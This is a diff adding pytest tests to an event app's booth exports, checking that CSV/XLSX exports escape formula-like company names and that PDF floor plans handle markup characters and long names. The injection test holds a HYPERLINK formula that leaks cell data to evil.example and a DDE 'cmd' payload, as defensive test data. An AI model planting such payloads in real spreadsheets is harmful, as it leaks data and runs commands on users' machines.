@@ -6,9 +6,11 @@ import io
 import re
 import shutil
 import subprocess
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
+from sqlalchemy import select
 
 from tests.booths.conftest import place
 
@@ -156,3 +158,79 @@ def test_pdf_legend_draws_zone_colour_swatches(client, placed, tmp_path):
         assert all(abs(a - b) <= 24 for a, b in zip(found, expected, strict=True)), (zone, found)
     held = colour_left_of("held")
     assert all(abs(a - b) <= 24 for a, b in zip(held, (0xFD, 0xE6, 0x8A), strict=True)), held
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+
+
+def test_exports_keep_formula_like_company_names_as_text(login_as, placed):
+    """A company name typed as a formula must not run in the organizer's spreadsheet."""
+    from eventapp.extensions import db
+
+    alpha = placed.exhibitors["alpha"].organization
+    alpha.name_ko = EVIL_NAME
+    alpha.name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db.session.commit()
+    client = login_as("organizer")
+
+    text = client.get("/e/test-expo/manage/booths/export.csv").get_data().decode("utf-8-sig")
+    by_booth = {r["booth"]: r for r in csv.DictReader(io.StringIO(text))}
+    assert by_booth["A-01"]["company_ko"] == "'" + EVIL_NAME
+    assert by_booth["A-01"]["company_en"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert by_booth["B-03"]["company_en"] == "Beta Bio"  # ordinary names stay as they are
+
+    data = client.get("/e/test-expo/manage/booths/export.xlsx").get_data()
+    workbook = load_workbook(io.BytesIO(data))
+    sheet = workbook["Booths"]
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "A-01")
+    cell = row[header.index("company_ko")]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL_NAME, "s", True)
+    companies = workbook["Exhibitors"]
+    cell = next(r[0] for r in companies.iter_rows(min_row=2) if r[2].value == "A-01 A-02")
+    assert (cell.value, cell.data_type) == (EVIL_NAME, "s")
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert "<f>" not in archive.read(name).decode(), name
+
+
+@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) missing")
+def test_pdf_floor_plan_with_markup_characters_in_names(client, placed, tmp_path):
+    """Event and hall names are text, not reportlab markup: "<" and "&" print as typed."""
+    from eventapp.events.models import Hall
+    from eventapp.extensions import db
+
+    placed.event.name_en = "Expo <2025> & Co"
+    hall = db.session.scalar(select(Hall).where(Hall.code == "A"))
+    hall.name_en = "Hall <A>"
+    db.session.commit()
+    response = client.get("/e/test-expo/floorplan.pdf?lang=en")
+    assert response.status_code == 200
+    path = tmp_path / "plan.pdf"
+    path.write_bytes(response.get_data())
+    text = subprocess.run(
+        ["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
+    ).stdout
+    assert "Hall <A>" in text
+    assert "Expo <2025> & Co" in text
+    assert "&lt;" not in text and "&amp;" not in text
+
+
+def test_pdf_shortens_long_names_with_the_core_helper(client, placed, monkeypatch):
+    """Names too wide for their booth are cut by eventapp.core.pdf.truncate_to_width."""
+    import eventapp.core.pdf
+    from eventapp.extensions import db
+
+    placed.exhibitors["alpha"].organization.name_en = "Alpha Robotics " * 10
+    db.session.commit()
+    real = eventapp.core.pdf.truncate_to_width
+    calls = []
+
+    def spy(text, font_name, size, max_width, *args, **kwargs):
+        calls.append(text)
+        return real(text, font_name, size, max_width, *args, **kwargs)
+
+    monkeypatch.setattr(eventapp.core.pdf, "truncate_to_width", spy)
+    assert client.get("/e/test-expo/floorplan.pdf?lang=en").status_code == 200
+    assert "Alpha Robotics " * 10 in calls
